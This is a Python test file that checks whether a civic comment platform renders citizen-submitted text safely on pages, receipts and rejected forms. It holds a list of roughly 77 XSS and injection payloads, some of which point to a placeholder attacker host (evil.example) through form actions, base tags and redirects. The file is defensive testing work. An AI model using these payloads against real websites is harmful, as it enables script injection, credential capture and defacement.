"""A citizen's words are text, whatever they look like: on the page, in the receipt, in the form."""

from bleach._vendor import html5lib

from engage.core.clock import FixedClock
from engage.core.unit import Units
from tests.app_fixtures import build_engagement
from tests.comments.citizen import FORM, TOPIC, Citizen, Page, settle

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=//evil.example>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=code></form>",
    "</form><form action=//evil.example method=post>",
    "<button formaction=//evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</textarea/><img src=x onerror=alert(1)>",
    "</TEXTAREA ><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</div></article></li></ol></section></main><script>alert(1)</script>",
    "</p></dd></dl><h1>Welcome</h1>",
    "</body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!-- <img src=x onerror=alert(1)> -->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select><option onclick=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div onclick=alert(1)>x</div>",
    "<p id=c-1 class=comment__text>not mine</p>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><img src=x onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script/src=//evil.example>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&notit; &copy &AMP; &#x3c;b&#x3e;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7 * 7 }}{% include 'layout.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png) **bold** `code`",
    "# heading\n\n> quote\n\n- list",
    "javascript:alert(1)",
    "http://evil.example/ www.evil.example",
    "x\u2028<script>alert(1)</script>",
    "<img src='x'\nonerror='alert(1)'>",
    "<a\thref\t=\tjavascript:alert(1)>x",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


def assert_only_ours(page: Page) -> None:
    """No element, attribute or address that the theme did not write."""
    for element in page.tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in {"iframe", "object", "embed", "base", "style", "template", "img"}
        assert not [name for name in element.attrib if str(name).startswith("on")]
        address = element.get("src") or element.get("href") or element.get("action") or ""
        assert "evil" not in address
        assert not address.casefold().startswith(("javascript:", "data:", "//"))
        if element.tag == "script" and element.get("type") == "application/ld+json":
            assert "<" not in (element.text or "")  # data, which no browser runs
        elif element.tag == "script":
            assert element.get("src", "").startswith("/assets/")
            assert not (element.text or "").strip()


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


def test_hostile_words_are_text_wherever_they_appear(units: Units, clock: FixedClock) -> None:
    build_engagement(units)
    citizen = Citizen.of(units)
    for hostile in HOSTILE:
        clock.advance(seconds=1)
        name = hostile.replace("\n", " ").replace("\t", " ").replace("\u2028", " ")[:80]
        page = citizen.send(hostile, display_name=name, confirm="send-as-is")
        settle(units, page.code, "published")
        receipt = citizen.look_up(page.code)
        assert_only_ours(receipt)
        shown = receipt.form("correct")["correction-text"]
        assert shown == hostile.replace("\u2028", "\n").replace("\t", " ")
    topic = citizen.get(TOPIC)
    assert_only_ours(topic)
    texts = [
        "".join(element.itertext())
        for element in topic.tree.iter("div")
        if element.get("class") == "comment__text"
    ]
    names = [
        "".join(element.itertext())
        for element in topic.tree.iter("h3")
        if element.get("class") == "comment__name"
    ]
    expected = [text.replace("\u2028", "\n").replace("\t", " ") for text in reversed(HOSTILE)]
    assert texts == expected
    assert names == [" ".join(text.split())[:80].rstrip() for text in expected]
    articles = list(topic.tree.iter("article"))
    assert len(articles) == len(HOSTILE)
    assert all(not list(article.iter("b")) for article in articles)


def test_hostile_words_in_a_refused_form_are_text(units: Units) -> None:
    build_engagement(units)
    citizen = Citizen.of(units)
    for hostile in HOSTILE:
        fields = {"text": hostile, "display_name": hostile, "email": hostile, "token": hostile}
        page = citizen.post(FORM, fields | {"purposes": hostile})
        assert page.status == 422
        assert_only_ours(page)
        form = page.form()
        assert form["text"] == hostile.replace("\r\n", "\n")
        assert form["token"] != hostile
        # A browser takes line breaks out of one-line fields; the parser does not.
        assert form["display_name"] == hostile


def test_the_parser_sees_what_a_browser_would() -> None:
    tree = html5lib.parse("<p><img src=x onerror=1></p>", namespaceHTMLElements=False)
    assert tree.find(".//img").get("onerror") == "1"
